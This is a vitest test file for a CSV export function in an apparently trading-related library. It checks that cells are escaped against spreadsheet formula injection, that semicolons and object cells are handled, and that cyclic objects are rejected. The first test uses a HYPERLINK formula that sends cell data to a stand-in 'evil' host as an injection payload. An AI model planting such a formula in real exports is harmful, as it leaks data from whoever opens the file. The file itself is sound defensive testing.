import { describe, expect, it } from 'vitest'
import { isTradekitError } from '../errors/index.js'
import { toCsv } from './toCsv.js'

/** The cells of a CSV line (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = []
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g
  for (let m = re.exec(line); m !== null && m.index < line.length; m = re.exec(line)) {
    const v = m[1] ?? ''
    out.push(v.startsWith('"') ? v.slice(1, -1).replace(/""/g, '"') : v)
    if (m[2] === '') break
  }
  return out
}

describe('toCsv', () => {
  it('neutralises cells a spreadsheet would run as formulas (OWASP: = + - @ tab CR), keeping numbers numeric', () => {
    const csv = toCsv([
      {
        clientOrderId: '=HYPERLINK("http://evil/?x="&A1,"x")',
        reason: '@SUM(1+1)',
        a: '+1+1',
        b: '-2+3',
        c: '\t=1',
        d: '\r=1',
        fee: '-0.1',
        price: '+12.5',
        tiny: '-1e-8',
        ts: -5,
        note: 'ok = fine',
      },
    ])
    const [header, line] = csv.split('\r\n')
    expect(header).toBe('clientOrderId,reason,a,b,c,d,fee,price,tiny,ts,note')
    expect(line?.startsWith('=')).toBe(false)
    expect(line).not.toMatch(/(^|,)"?[=@]/)
    expect(cells(line ?? '')).toEqual([
      `'=HYPERLINK("http://evil/?x="&A1,"x")`,
      "'@SUM(1+1)",
      "'+1+1",
      "'-2+3",
      "'\t=1",
      "'\r=1",
      '-0.1',
      '+12.5',
      '-1e-8',
      '-5',
      'ok = fine',
    ])
  })

  it('quotes a cell holding a semicolon, so a spreadsheet set to that separator cannot start a cell inside it', () => {
    expect(toCsv([{ reason: 'x;=1+1' }])).toBe('reason\r\n"x;=1+1"\r\n')
  })

  it('writes object cells (a position fees record) as JSON, arrays joined with ";"', () => {
    const csv = toCsv([
      { symbol: 'BTCUSDT', qty: '1', fees: { USDT: '0.1', BNB: '0.001' }, feeAssets: ['BNB', 'USDT'] },
    ])
    expect(csv).not.toContain('[object Object]')
    const [, line] = csv.split('\r\n')
    expect(cells(line ?? '')).toEqual(['BTCUSDT', '1', '{"USDT":"0.1","BNB":"0.001"}', 'BNB;USDT'])
    expect(JSON.parse(cells(line ?? '')[2] ?? '')).toEqual({ USDT: '0.1', BNB: '0.001' })
    expect(toCsv([{ list: [{ a: 1 }, 'b'] }])).toBe('list\r\n"{""a"":1};b"\r\n')
  })

  it('writes a record without a prototype as JSON too, and heads the columns with every key in first-seen order', () => {
    const fees = Object.assign(Object.create(null), { USDT: '0.1' })
    expect(toCsv([{ a: 1 }, { a: 2, fees }]).split('\r\n')).toEqual([
      'a,fees',
      '1,',
      '2,"{""USDT"":""0.1""}"',
      '',
    ])
  })

  it('refuses an object cell that cannot be written as JSON with a ValidationError', () => {
    const loop: Record<string, unknown> = {}
    loop.self = loop
    let error: unknown
    try {
      toCsv([{ meta: loop }])
    } catch (e) {
      error = e
    }
    expect(isTradekitError(error, 'VALIDATION_FAILED') && error.field).toBe('meta')
  })
})
